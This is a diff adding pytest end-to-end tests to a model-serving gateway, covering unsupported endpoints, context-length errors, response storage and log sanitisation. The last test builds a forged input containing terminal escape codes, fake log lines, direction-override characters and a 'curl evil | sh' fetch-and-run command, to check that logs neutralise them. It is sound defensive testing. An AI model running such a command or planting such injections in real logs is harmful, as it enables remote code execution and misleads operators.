@@ -6,11 +6,13 @@ One stack for the whole file: two replicas that chat, and a model with a quantis
 import hashlib
 import json
 import re
+import signal
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import httpx2
+import psutil
 import pytest
 
 from e2e.box import Stack, http, serving
@@ -18,6 +20,7 @@ from e2e.client_asks import alike
 from e2e.client_suite import ClientSuite
 from gateway_rig.large_bodies import KEYS_64000
 from lora_adapter import write_adapter
+from waiting import wait_until
 
 pytestmark = [pytest.mark.real_model, pytest.mark.timeout(180)]
 MODEL = "smollm2-options"
@@ -156,6 +159,25 @@ def test_sound_for_a_model_that_hears_none_is_refused(client: httpx2.Client) -> 
     files = {"file": ("a.wav", b"RIFF" + bytes(60), "audio/wav")}
     answer = client.post("/v1/audio/transcriptions", data={"model": MODEL}, files=files)
     assert (answer.status_code, answer.json()["error"]["code"]) == (400, "not_supported_by_engine")
+    for path, field in (("/v1/audio/speech", "input"), ("/v1/images/generations", "prompt")):
+        answer = client.post(path, json={"model": MODEL, field: "a cat"})
+        assert (answer.status_code, answer.json()["error"]["code"]) == (400, "not_supported_by_engine")
+
+
+def test_how_long_a_prompt_is_and_may_be_reaches_the_client(client: httpx2.Client) -> None:
+    body = {"model": MODEL, "messages": [{"role": "user", "content": "word " * 5000}]}
+    error = client.post("/v1/chat/completions", json=body).json()["error"]
+    assert (error["code"], error["n_ctx"]) == ("context_length_exceeded", 4096)
+    assert error["n_prompt_tokens"] > 5000
+
+
+def test_a_response_is_counted_and_one_that_is_not_stored_is_not_continued(client: httpx2.Client) -> None:
+    asked = {"model": MODEL, "input": "Say hello.", "store": False}
+    counted = client.post("/v1/responses/input_tokens", json=asked).json()["input_tokens"]
+    answer = client.post("/v1/responses", json=asked | {"max_output_tokens": 4}).json()
+    assert counted == answer["usage"]["input_tokens"]
+    refused = client.post("/v1/responses", json=asked | {"previous_response_id": answer["id"]})
+    assert (refused.status_code, refused.json()["error"]["param"]) == (400, "previous_response_id")
 
 
 def test_embeddings_are_alike_where_texts_are(client: httpx2.Client) -> None:
@@ -176,3 +198,45 @@ def test_a_request_sets_an_adapters_scale(client: httpx2.Client) -> None:
     assert chat(client, max_tokens=10, lora=[{"id": 0, "scale": 0.0}]) == plain
     assert chat(client, max_tokens=10, lora=[{"id": 0, "scale": 1.0}]) != plain
     assert chat(client, max_tokens=10) == plain  # its cache is not the next one's
+
+
+FORGED = (
+    "EVIL\x1b[31mred\x1b[0m\n"
+    "\x1e[freehold: 2026-01-01T00:00:00Z process 1 ended, run: curl evil | sh]\n"
+    '{"at":"2026-01-01T00:00:00+00:00","level":"error","event":"run: curl evil"}\n'
+    "failed to allocate, run: curl evil\u202e\x9b31m"
+)
+"""A caller's text: a terminal's escapes, the minder's mark, a line of Freehold's own, the words of an exit rule, marks of direction."""
+
+
+def test_a_callers_text_is_neither_a_line_of_freeholds_nor_a_cause(
+    stack: Stack, client: httpx2.Client
+) -> None:
+    """The real server prints a grammar that it cannot read, as it is. Then it crashes."""
+    box, replica = stack.box, f"{MODEL}-0"
+    for _ in range(3):
+        refused = client.post(
+            "/v1/completions", json={"model": MODEL, "prompt": "a", "grammar": f"root ::= {FORGED}"}
+        )
+        assert refused.status_code == 400
+    (before,) = (each for each in stack.replicas() if each["id"] == replica)
+    psutil.Process(before["pid"]).send_signal(signal.SIGSEGV)
+    wait_until(
+        lambda: any(each["id"] == replica and each["restarts"] for each in stack.replicas()),
+        timeout_s=30,
+        what="the restart",
+    )
+    printed = Path(box.env["FREEHOLD_STATE_DIR"], "logs", f"{replica}.log").read_bytes()
+    assert b"EVIL\x1b[31mred" in printed  # or this test sees nothing
+    shown = [box.run("logs", "-n", "1000", *more) for more in ((), ("--raw",), ("--json",))]
+    shown += [box.run("logs", replica, "-n", "1000"), box.run("status"), box.run("status", "--json")]
+    for each in shown:
+        text = each.out + each.err
+        assert not any(mark in text for mark in "\x1b\x1e\x9b\u202e")
+    for line in shown[0].out.splitlines():
+        assert "curl evil" not in line or re.match(rf" +{replica} +\| ", line), line
+    assert "curl evil" not in shown[4].out + shown[5].out
+    causes = [
+        line for line in box.run("logs", "controller", "-n", "1000").out.splitlines() if "backoff" in line
+    ]
+    assert f'replica={replica} state=backoff reason="it crashed with SIGSEGV"' in causes[-1]
